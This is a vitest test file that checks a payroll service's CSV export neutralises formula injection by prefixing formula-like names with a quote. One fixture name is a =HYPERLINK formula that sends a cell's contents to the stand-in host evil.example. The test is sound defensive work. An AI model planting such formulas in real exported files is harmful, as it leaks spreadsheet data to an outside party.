/**
 * Issue 11, formula injection: an officer named `=HYPERLINK(...)` was exported into the payroll
 * CSV as a live formula. Every CSV the service writes goes through src/core/csv.ts.
 */
import { describe, expect, it } from 'vitest';
import { makeTestApp } from '../support/app.js';
import { seedGrading, standardFixture } from '../support/grading.js';

describe('payroll CSV and formula injection', () => {
  it('exports names that start like a formula as text (prefixed with a quote)', async () => {
    const t = await makeTestApp({ now: '2026-10-10T08:00:00.000Z' });
    const fixture = standardFixture('2026Q3');
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"pay")', '+86 10 1234', '-1+1', '@SUM(A1:A9)'];
    names.forEach((name, i) => (fixture.officers[i]!.name = name));
    fixture.units[0]!.name = '=1+1';
    await seedGrading(t.db, fixture);
    const hr = await t.userToken('hr');
    const run = (await (await t.call('POST', '/api/v1/grading-runs', { token: hr, json: { period: '2026Q3' } })).json()) as { id: string };
    // Published by a second HR user (four eyes).
    expect((await t.call('POST', `/api/v1/grading-runs/${run.id}/publish`, { token: await t.userToken('hr', { username: 'hr-checker' }) })).status).toBe(200);
    const res = await t.call('GET', `/api/v1/grading-runs/${run.id}/export.csv`, { token: hr });
    expect(res.status).toBe(200);
    const lines = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toMatch(/^O001,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""pay""\)",'=1\+1,/);
    expect(lines[2]).toMatch(/^O002,'\+86 10 1234,'=1\+1,/);
    expect(lines[3]).toMatch(/^O003,'-1\+1,/);
    expect(lines[4]).toMatch(/^O004,'@SUM\(A1:A9\),/);
    // No cell of the file starts like a formula.
    for (const line of lines) for (const cell of line.split(',')) expect(/^"?[=+\-@\t\r]/.test(cell), line).toBe(false);
  });
});
